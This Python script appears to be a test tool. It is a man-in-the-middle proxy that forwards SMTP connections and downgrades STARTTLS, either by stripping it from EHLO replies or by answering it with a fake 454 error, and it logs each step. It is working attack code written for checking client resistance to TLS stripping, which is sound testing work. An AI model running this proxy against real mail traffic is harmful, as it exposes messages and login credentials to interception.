#!/usr/bin/env python3
"""A man in the middle for SMTP STARTTLS tests (RELIABILITY O-07; RFC 7672
section 1.3.1; striptls vectors).

It listens on ADDR:PORT and forwards every connection to TARGET:PORT, with
one of two attacks on STARTTLS:

  strip  the STARTTLS line is removed from every EHLO reply (the reply's
         continuation markers fixed), so the client believes the server
         offers no TLS; a STARTTLS the client sends anyway gets 502;
  454    the EHLO reply is passed on unchanged, but STARTTLS is answered
         "454 4.7.0 TLS not available due to local problem" by the proxy
         itself, never reaching the server.

Everything else passes unchanged in both directions. Each connection and
each attack step is written to --log, so a test can show the proxy was on
the path. Usage:

  starttls_mitm.py --listen ADDR:PORT --target ADDR:PORT --mode strip|454
                   --log FILE [--pidfile FILE]
"""
import argparse
import os
import re
import socket
import sys
import threading
import time

STARTTLS_LINE = re.compile(rb"^\d{3}[- ]STARTTLS\s*$", re.I)


class Log:
    def __init__(self, path):
        self.f = open(path, "a", buffering=1)
        self.lock = threading.Lock()

    def write(self, conn, what):
        with self.lock:
            self.f.write("%s conn=%d %s\n" % (time.strftime("%H:%M:%S"),
                                               conn, what))


def split_replies(buf):
    """Complete SMTP replies at the front of buf: (list of replies, each a
    list of lines without CRLF, rest of buf)."""
    replies, lines = [], []
    while True:
        i = buf.find(b"\r\n")
        if i < 0:
            break
        line, buf = buf[:i], buf[i + 2:]
        lines.append(line)
        if len(line) < 4 or line[3:4] != b"-":
            replies.append(lines)
            lines = []
    # Put back a partial multi-line reply.
    if lines:
        buf = b"".join(l + b"\r\n" for l in lines) + buf
    return replies, buf


def strip_reply(lines):
    kept = [l for l in lines if not STARTTLS_LINE.match(l)]
    if len(kept) == len(lines):
        return None
    out = []
    for i, l in enumerate(kept):
        sep = b" " if i == len(kept) - 1 else b"-"
        out.append(l[:3] + sep + l[4:] if len(l) >= 4 else l)
    return b"".join(l + b"\r\n" for l in out)


class Session:
    def __init__(self, n, client, target, mode, log):
        self.n, self.client, self.mode, self.log = n, client, mode, log
        self.server = socket.create_connection(target, timeout=30)
        self.lock = threading.Lock()
        self.closed = False

    def to_client(self, data):
        with self.lock:
            self.client.sendall(data)

    def server_to_client(self):
        buf = b""
        try:
            while True:
                data = self.server.recv(65536)
                if not data:
                    break
                if self.mode != "strip":
                    self.to_client(data)
                    continue
                buf += data
                replies, buf = split_replies(buf)
                for r in replies:
                    s = strip_reply(r)
                    if s is not None:
                        self.log.write(self.n, "stripped STARTTLS from the "
                                       "EHLO reply")
                        self.to_client(s)
                    else:
                        self.to_client(b"".join(l + b"\r\n" for l in r))
        except OSError:
            pass
        self.close()

    def client_to_server(self):
        buf = b""
        try:
            while True:
                data = self.client.recv(65536)
                if not data:
                    break
                buf += data
                while b"\r\n" in buf:
                    i = buf.index(b"\r\n")
                    line, buf = buf[:i + 2], buf[i + 2:]
                    if line.strip().upper() == b"STARTTLS":
                        code = (b"502 5.5.1 command not recognized"
                                if self.mode == "strip" else
                                b"454 4.7.0 TLS not available due to "
                                b"local problem")
                        self.log.write(self.n, "answered STARTTLS with " +
                                       code[:3].decode())
                        self.to_client(code + b"\r\n")
                        continue
                    self.server.sendall(line)
                if len(buf) > 1 << 20:	# a body line without CRLF
                    self.server.sendall(buf)
                    buf = b""
        except OSError:
            pass
        self.close()

    def close(self):
        with self.lock:
            if self.closed:
                return
            self.closed = True
        for s in (self.client, self.server):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            s.close()
        self.log.write(self.n, "closed")


def addr(s):
    host, port = s.rsplit(":", 1)
    return host, int(port)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--listen", required=True, type=addr)
    ap.add_argument("--target", required=True, type=addr)
    ap.add_argument("--mode", required=True, choices=("strip", "454"))
    ap.add_argument("--log", required=True)
    ap.add_argument("--pidfile")
    a = ap.parse_args()
    log = Log(a.log)
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(a.listen)
    ls.listen(64)
    if a.pidfile:
        with open(a.pidfile, "w") as f:
            f.write("%d\n" % os.getpid())
    log.write(0, "listening on %s:%d for %s:%d, mode %s" % (
        a.listen + a.target + (a.mode,)))
    n = 0
    while True:
        c, peer = ls.accept()
        n += 1
        try:
            s = Session(n, c, a.target, a.mode, log)
        except OSError as e:
            log.write(n, "target unreachable: %s" % e)
            c.close()
            continue
        log.write(n, "from %s:%d" % peer)
        threading.Thread(target=s.server_to_client, daemon=True).start()
        threading.Thread(target=s.client_to_server, daemon=True).start()


if __name__ == "__main__":
    sys.exit(main())
